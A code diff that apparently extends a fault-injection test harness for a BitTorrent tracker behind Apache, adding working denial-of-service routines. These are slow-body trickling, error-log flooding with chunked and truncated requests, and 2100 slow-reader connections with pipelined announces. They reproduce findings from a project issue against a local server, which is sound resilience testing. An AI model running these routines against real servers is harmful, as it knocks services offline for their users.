@@ -744,6 +744,190 @@ ATTACKS = {"peer-flood": peer_flood, "swarm-flood": swarm_flood, "slow": slow_co
            "split-route": split_route, "rotation-48": rotation_48, "symlinks": site_links}
 
 
+# -- attacks on what Apache does before and after the tracker (issue 17: 1, 2, 6, 8) -------
+
+SLOW_BODY_CONNECTIONS = 40  # the issue's: more than 2 daemon processes' 15 threads each
+SLOW_BODY_LENGTH = 1000  # Content-Length announced; the body never gets there
+SLOW_BODY_BYTE_SECONDS = 2  # one body byte this often
+LOG_FLOOD_CONNECTIONS = 8  # the issue's 10-19 MB of error log a minute came from 8
+SLOW_READERS = 2100  # the issue's: more than the 2 x 1024 workers of either topology's Apache
+SLOW_READER_PIPELINE = 50  # announces sent at once on each connection, never read
+SLOW_READER_RCVBUF = 4096  # the readers' receive buffer: the answers pile up in Apache
+SLOW_READER_CHECK_SECONDS = 2  # how often a reader looks whether Apache closed its connection
+TCP_STATES_CLOSED = (7, 8)  # TCP_INFO's tcpi_state: CLOSE (a reset), CLOSE_WAIT (the server's FIN)
+
+
+def non_local_source() -> str | None:
+    """An address of this host outside 127/8, from which a connection to SERVER is not
+    `Require local` (that also takes the server's own address): the issue's monitoring
+    pages asked from elsewhere."""
+    for line in subprocess.run(["ip", "-4", "-o", "addr", "show", "scope", "global"], capture_output=True,
+                               text=True).stdout.splitlines():
+        return line.split()[3].split("/")[0]
+    return None
+
+
+async def one_exchange(port: int, source: str, sent: bytes, deadline: float, half_close: bool = False) -> str:
+    """Send these bytes on a new connection, read the answer to its end; its class."""
+    loop = asyncio.get_running_loop()
+    sock, data = client_socket(source), b""
+    try:
+        async with asyncio.timeout(wait(deadline)):
+            await loop.sock_connect(sock, (SERVER, port))
+            await loop.sock_sendall(sock, sent)
+            if half_close:
+                sock.shutdown(socket.SHUT_WR)
+            while chunk := await loop.sock_recv(sock, 65536):
+                data += chunk
+    except (OSError, TimeoutError):
+        if not data:
+            return NO_ANSWER
+    finally:
+        sock.close()
+    return classify_raw(data) if data else "closed unanswered"
+
+
+async def slow_bodies(port: int, seconds: float, swarm: bytes) -> Counter:
+    """SLOW_BODY_CONNECTIONS connections from one address, each announcing (GET) or asking for
+    a web refresh (POST) with a Content-Length body sent one byte every SLOW_BODY_BYTE_SECONDS,
+    reopened when answered or closed (issue 17, finding 1)."""
+    loop = asyncio.get_running_loop()
+    counts: Counter = Counter()
+    deadline = time.monotonic() + seconds
+
+    async def connection(number: int) -> None:
+        await asyncio.sleep(number * SLOW_RAMP_SECONDS / SLOW_BODY_CONNECTIONS)
+        while time.monotonic() < deadline:
+            head = (b"GET " + _random_announce(lambda: swarm) if number % 2 else b"POST /tracker?force-refresh")
+            sock, data = client_socket(SLOW_SOURCE), b""
+            try:
+                async with asyncio.timeout(wait(deadline)):
+                    await loop.sock_connect(sock, (SERVER, port))
+                    await loop.sock_sendall(sock, head + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+                                            b"Content-Type: application/x-www-form-urlencoded\r\n"
+                                            b"Content-Length: %d\r\n\r\n" % SLOW_BODY_LENGTH)
+                counts["opened"] += 1
+                while time.monotonic() < deadline:
+                    try:
+                        async with asyncio.timeout(min(SLOW_BODY_BYTE_SECONDS, wait(deadline))):
+                            chunk = await loop.sock_recv(sock, 65536)
+                    except TimeoutError:
+                        await loop.sock_sendall(sock, b"s")
+                        continue
+                    if not chunk:
+                        break
+                    data += chunk  # an answer: read it to the end
+                    async with asyncio.timeout(5):
+                        while chunk := await loop.sock_recv(sock, 65536):
+                            data += chunk
+                    break
+                else:
+                    continue  # held to the end of the attack
+                counts[classify_raw(data) if data else "closed unanswered"] += 1
+            except (OSError, TimeoutError):
+                if data or time.monotonic() < deadline:
+                    counts[classify_raw(data) if data else NO_ANSWER] += 1
+            finally:
+                sock.close()
+            await asyncio.sleep(SLOW_RECONNECT_SECONDS)
+
+    await asyncio.gather(*(connection(n) for n in range(SLOW_BODY_CONNECTIONS)))
+    return counts
+
+
+async def log_flood(port: int, seconds: float, swarm: bytes) -> Counter:
+    """LOG_FLOOD_CONNECTIONS clients, each sending in turn, as fast as answered: a chunked GET
+    announce, /tracker/metrics from an address that is not local, and a web refresh whose
+    POST body is cut short (issue 17, findings 2 and 8). Each once made Apache or mod_wsgi
+    write an error log line."""
+    counts: Counter = Counter()
+    deadline = time.monotonic() + seconds
+    elsewhere = non_local_source()
+    kinds = [
+        ("chunked", FLOOD_SOURCE, False,
+         lambda: (b"GET " + _random_announce(lambda: swarm) + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+                  b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n")),
+        ("cut-short", FLOOD_SOURCE, True,
+         lambda: (b"POST /tracker?force-refresh HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+                  b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n"
+                  b"Connection: close\r\n\r\nsecret=abc")),
+    ]
+    if elsewhere is not None:
+        kinds.append(("metrics", elsewhere, False,
+                      lambda: b"GET /tracker/metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"))
+    else:
+        counts["metrics not tried: no address outside 127/8"] += 1
+
+    async def client(number: int) -> None:
+        turn = number
+        while time.monotonic() < deadline:
+            name, source, half_close, sent = kinds[turn % len(kinds)]
+            turn += 1
+            outcome = await one_exchange(port, source, sent(), deadline, half_close)
+            if outcome != NO_ANSWER or time.monotonic() < deadline:
+                counts[outcome] += 1
+                counts[f"{name}: {outcome}"] += 1
+
+    await asyncio.gather(*(client(n) for n in range(LOG_FLOOD_CONNECTIONS)))
+    return counts
+
+
+def slow_reader_request(swarm: bytes) -> bytes:
+    query = (f"info_hash={quote(swarm)}&peer_id={quote(random.randbytes(20))}&port={random.randrange(1024, 65536)}"
+             f"&uploaded=0&downloaded=0&left={TORRENT_SIZE}&compact=0&numwant=200")
+    return b"GET /tracker/announce?" + query.encode() + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
+
+
+async def slow_readers(port: int, seconds: float, swarm: bytes) -> Counter:
+    """SLOW_READERS connections from one address, each with a SLOW_READER_RCVBUF receive
+    buffer, pipelining SLOW_READER_PIPELINE `compact=0&numwant=200` announces and never
+    reading; each is opened again once Apache closes it (issue 17, finding 6)."""
+    import resource  # the attack's process only: one descriptor per connection
+
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, SLOW_READERS + 1000)), hard))
+    loop = asyncio.get_running_loop()
+    counts: Counter = Counter()
+    deadline = time.monotonic() + seconds
+    open_now = 0
+
+    async def connection(number: int) -> None:
+        nonlocal open_now
+        await asyncio.sleep(number * SLOW_RAMP_SECONDS / SLOW_READERS)
+        while time.monotonic() < deadline:
+            sock, held = client_socket(SLOW_SOURCE), False
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SLOW_READER_RCVBUF)  # before connect: the window
+            try:
+                async with asyncio.timeout(wait(deadline)):
+                    await loop.sock_connect(sock, (SERVER, port))
+                    await loop.sock_sendall(sock, b"".join(slow_reader_request(swarm)
+                                                           for _ in range(SLOW_READER_PIPELINE)))
+                held, open_now = True, open_now + 1
+                counts["opened"] += 1
+                counts["connected at most"] = max(counts["connected at most"], open_now)
+                while time.monotonic() < deadline:
+                    await asyncio.sleep(min(SLOW_READER_CHECK_SECONDS, max(0.0, deadline - time.monotonic())))
+                    if sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] in TCP_STATES_CLOSED:
+                        counts["closed by Apache"] += 1
+                        break
+            except (OSError, TimeoutError):
+                if time.monotonic() < deadline:
+                    counts[NO_ANSWER] += 1
+            finally:
+                sock.close()
+                if held:
+                    open_now -= 1
+            await asyncio.sleep(SLOW_RECONNECT_SECONDS)
+
+    await asyncio.gather(*(connection(n) for n in range(SLOW_READERS)))
+    return counts
+
+
+APACHE_ATTACKS = {"slow-body": slow_bodies, "log-flood": log_flood, "slow-readers": slow_readers}
+ATTACKS.update(APACHE_ATTACKS)
+SCENARIOS += tuple(APACHE_ATTACKS)
+
+
 # -- the faults: begin() starts one, end() undoes it, abort() cleans up after an error -------
 
 class Attack:
@@ -876,6 +1060,16 @@ FAULTS = {
     ("db-hang", "sqlite"): "another process holds the store's `-writer` flock and BEGIN EXCLUSIVE: writers "
                            "wait with no end, as on a frozen server (WAL: reads go on)",
 }
+FAULTS.update({
+    ("slow-body", None): f"{SLOW_BODY_CONNECTIONS} connections from {SLOW_SOURCE}, GET announces and POST web "
+                         f"refreshes with Content-Length: {SLOW_BODY_LENGTH} and a body byte every "
+                         f"{SLOW_BODY_BYTE_SECONDS} s, reopened when answered or closed",
+    ("log-flood", None): f"{LOG_FLOOD_CONNECTIONS} clients in turn: chunked GET announces and POST web refreshes "
+                         f"cut short from {FLOOD_SOURCE}, /tracker/metrics from an address outside 127/8",
+    ("slow-readers", None): f"{SLOW_READERS} connections from {SLOW_SOURCE} with a {SLOW_READER_RCVBUF}-byte "
+                            f"receive buffer, each pipelining {SLOW_READER_PIPELINE} compact=0&numwant=200 "
+                            "announces and never reading, reopened when Apache closes them",
+})
 
 
 def fault_seconds(scenario: str, seconds: float) -> tuple[float, float]:
